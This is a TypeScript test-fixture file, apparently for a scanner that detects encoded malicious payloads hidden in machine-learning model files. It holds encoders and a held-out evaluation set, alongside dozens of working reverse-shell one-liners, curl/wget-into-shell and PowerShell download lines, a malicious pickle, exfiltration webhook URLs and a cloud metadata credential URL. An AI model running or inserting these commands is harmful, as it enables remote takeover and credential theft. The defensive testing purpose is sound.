import { deflateSync, gzipSync } from 'node:zlib';
import { SeededRandom } from '../../src/core/random.ts';

const B32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
const B85 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~';

function base32(bytes: Buffer): string {
  let bits = '';
  for (const byte of bytes) bits += byte.toString(2).padStart(8, '0');
  const text = (bits.match(/.{1,5}/g) ?? []).map((five) => B32[Number.parseInt(five.padEnd(5, '0'), 2)]).join('');
  return text.padEnd(Math.ceil(text.length / 8) * 8, '=');
}

/** As `base64.b85encode` of Python. */
function base85(bytes: Buffer): string {
  const padded = Buffer.concat([bytes, Buffer.alloc((4 - (bytes.length % 4)) % 4)]);
  let text = '';
  for (let at = 0; at < padded.length; at += 4) {
    let value = padded.readUInt32BE(at);
    let group = '';
    for (let i = 0; i < 5; i++) {
      group = `${B85[value % 85]}${group}`;
      value = Math.floor(value / 85);
    }
    text += group;
  }
  return text.slice(0, text.length - (padded.length - bytes.length));
}

const xor = (bytes: Buffer, key: number) => Buffer.from(bytes.map((byte) => byte ^ key));
const base64 = (bytes: Buffer) => bytes.toString('base64');

/** Ways to write bytes as a text. */
export const ENCODINGS: Readonly<Record<string, (bytes: Buffer) => string>> = {
  base64,
  'base64 for URLs': (bytes) => bytes.toString('base64url'),
  'base64 in lines': (bytes) => base64(bytes).replaceAll(/.{76}/g, '$&\n'),
  'base64 in escaped lines': (bytes) => base64(bytes).replaceAll(/.{60}/g, '$&\\n'),
  base32,
  base85,
  hexadecimal: (bytes) => bytes.toString('hex'),
  'upper hexadecimal': (bytes) => bytes.toString('hex').toUpperCase(),
  'gzip in base64': (bytes) => base64(gzipSync(bytes)),
  'zlib in base64': (bytes) => base64(deflateSync(bytes)),
  'zlib in base85': (bytes) => base85(deflateSync(bytes)),
  'exclusive or in base64': (bytes) => base64(xor(bytes, 0x5a)),
  'exclusive or in hexadecimal': (bytes) => xor(bytes, 0xa7).toString('hex'),
  'base64 twice': (bytes) => base64(Buffer.from(base64(bytes))),
  'hexadecimal in base64': (bytes) => base64(Buffer.from(bytes.toString('hex'))),
  'base64 of zlib of base64': (bytes) => base64(deflateSync(Buffer.from(base64(bytes)))),
  'escapes of Python': (bytes) =>
    [...bytes.toString('base64')].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join(''),
};

/** Machine code does not compress to nothing. */
function noise(count: number): Buffer {
  const random = new SeededRandom(5);
  return Buffer.from(Array.from({ length: count }, () => random.below(256)));
}

function elf(): Buffer {
  const bytes = noise(400);
  bytes.write('\x7fELF\x02\x01\x01', 'latin1');
  return bytes;
}

function portable(): Buffer {
  const bytes = noise(400);
  bytes.write('MZ\x90\0\x03\0', 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  return bytes;
}

/** What attackers hide; nothing here does anything but name `id` and documentation addresses. */
export const PAYLOADS: Readonly<Record<string, Buffer>> = {
  'a script of Python': Buffer.from('import os\nos.system("id > /tmp/out")\nprint("done with it")\n'),
  'a command of a shell': Buffer.from('curl -s http://192.0.2.1/install | bash -s -- --quiet --yes'),
  'a script of a shell': Buffer.from('#!/bin/sh\nid > /tmp/out\necho done; exit 0\n'),
  'a script of PowerShell': Buffer.from(
    "powershell -NoP -W Hidden -c IEX((New-Object Net.WebClient).DownloadString('x'))",
  ),
  'an ELF program': elf(),
  'a Windows program': portable(),
  'a pickle': Buffer.from('\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x10id > /tmp/outfile\x85R.', 'latin1'),
  'a request bin': Buffer.from('https://webhook.site/6b1f0c5e-3a52-4a34-9f0f-0d6a1f0f3b11?key='),
  'a server by its number': Buffer.from('http://45.77.12.34:8080/collect/model/keys?from=here'),
  'a reverse shell': Buffer.from('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1 # connect back'),
};

/** Reverse shells as collections of them write them. */
export const SHELLS: readonly string[] = [
  'bash -i >& /dev/tcp/192.0.2.1/4242 0>&1',
  '0<&196;exec 196<>/dev/tcp/192.0.2.1/4242; sh <&196 >&196 2>&196',
  'exec 5<>/dev/tcp/192.0.2.1/4242;cat <&5 | while read line; do $line 2>&5 >&5; done',
  'sh -i >& /dev/udp/192.0.2.1/4242 0>&1',
  'nc -e /bin/sh 192.0.2.1 4242',
  'nc 192.0.2.1 4242 -e /bin/bash',
  'ncat 192.0.2.1 4242 --exec "/bin/bash"',
  'nc.traditional -c bash 192.0.2.1 4242',
  'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4242 >/tmp/f',
  'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:4242 > /tmp/s; rm /tmp/s',
  'python -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.1",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])\'',
  'import socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.1",4242))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn("/bin/sh")',
  '$client = New-Object System.Net.Sockets.TCPClient("192.0.2.1",4242);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String )}',
  'php -r \'$sock=fsockopen("192.0.2.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'',
  'ruby -rsocket -e\'f=TCPSocket.open("192.0.2.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
  'perl -e \'use Socket;$i="192.0.2.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'',
  'socat TCP:192.0.2.1:4242 EXEC:/bin/sh,pty,stderr,setsid,sigint,sane',
  'awk \'BEGIN {s = "/inet/tcp/0/192.0.2.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}\' /dev/null',
  '(function(){ var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []); var client = new net.Socket(); client.connect(4242, "192.0.2.1", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); }); })();',
  "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('192.0.2.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');t:send('x')\"",
];

/** Those below were written after the search was tuned on those above, and measure it. */
export const KEPT_ENCODINGS: Readonly<Record<string, (bytes: Buffer) => string>> = {
  'base64 in lines of 64 with CR': (bytes) => base64(bytes).replaceAll(/.{64}/g, '$&\r\n'),
  'gzip in hexadecimal': (bytes) => gzipSync(bytes).toString('hex'),
  'zlib in base32': (bytes) => base32(deflateSync(bytes)),
  'exclusive or of zlib in base64': (bytes) => base64(xor(deflateSync(bytes), 0x33)),
  'exclusive or with 0x01 in base85': (bytes) => base85(xor(bytes, 1)),
  'base64 three times': (bytes) => base64(Buffer.from(base64(Buffer.from(base64(bytes))))),
  'base64 behind an equals sign': (bytes) => `payload=${base64(bytes)}`,
  'gzip in base64 for URLs': (bytes) => gzipSync(bytes).toString('base64url'),
  'gzip of zlib in base64': (bytes) => base64(gzipSync(deflateSync(bytes))),
};

export const KEPT_PAYLOADS: Readonly<Record<string, Buffer>> = {
  'a script with subprocess': Buffer.from(
    'import subprocess as s\ns.run("id", shell=True)\nsubprocess.Popen(["id"])\n',
  ),
  'an import of os': Buffer.from('__import__("os").system("touch /tmp/x && id")  # done'),
  'wget into sh': Buffer.from('wget -qO- http://198.51.100.4/i.sh | sh   # install'),
  'a script with env': Buffer.from('#!/usr/bin/env python3\nprint(open("/etc/passwd").read())\n'),
  'a pickle of protocol 2': Buffer.from('\x80\x02cbuiltins\nexec\nX\x14\0\0\0print("hello, world")\x85R.', 'latin1'),
  'an onion service': Buffer.from(
    `post to http://${'abcdefghijklmnop234567qrstuvwxyz'.repeat(2).slice(0, 55)}d.onion/k`,
  ),
  'a tunnel': Buffer.from('endpoint: https://3f2a-45-1-2-3.ngrok-free.app/collect'),
  'a webhook': Buffer.from('https://discord.com/api/webhooks/1234567890/abcdefghijklm'),
  'the metadata service': Buffer.from('http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
  'a program of JavaScript': Buffer.from('require("child_process").exec("id", (e, o) => send(o))'),
};

export const KEPT_SHELLS: readonly string[] = [
  '/bin/bash -c "bash -i >& /dev/tcp/evil.example/443 0>&1"',
  'exec /bin/sh 0</dev/tcp/192.0.2.1/4242 1>&0 2>&0',
  "zsh -c 'zmodload zsh/net/tcp && ztcp 192.0.2.1 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
  'netcat -e /bin/sh 192.0.2.1 4242',
  'busybox nc 192.0.2.1 4242 -e sh',
  'ncat --ssl 192.0.2.1 4242 -e /bin/sh',
  'rm -f /tmp/p; mknod /tmp/p p && telnet 192.0.2.1 4242 0/tmp/p | /bin/bash 1>/tmp/p',
  'mkfifo /tmp/p; telnet 192.0.2.1 4242 < /tmp/p | /bin/bash > /tmp/p',
  'import socket as s, subprocess as p\nc = s.socket()\nc.connect(("192.0.2.1", 1))\nwhile 1: c.send(p.getoutput(c.recv(99).decode()).encode())',
  'python3 -c \'import os,pty,socket;s=socket.socket();s.connect(("192.0.2.1",9001));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")\'',
  'php -r \'$s=fsockopen("192.0.2.1",9001);$proc=proc_open("sh", array(0=>$s, 1=>$s, 2=>$s),$pipes);\'',
  'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"192.0.2.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\'',
  "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.1:4242",
];

/** Texts that hold such a thing as files of models do. */
export const PLACES: Readonly<Record<string, { readonly file: string; of(text: string): string }>> = {
  json: { file: 'config.json', of: (text) => `{"model_type": "bert", "note": ${JSON.stringify(text)}, "layers": 12}` },
  yaml: { file: 'train.yaml', of: (text) => `lr: 0.1\nnote: |\n  ${text.replaceAll('\n', '\n  ')}\n` },
  python: { file: 'modeling.py', of: (text) => `import os\nX = """${text}"""\nprint(X)\n` },
};
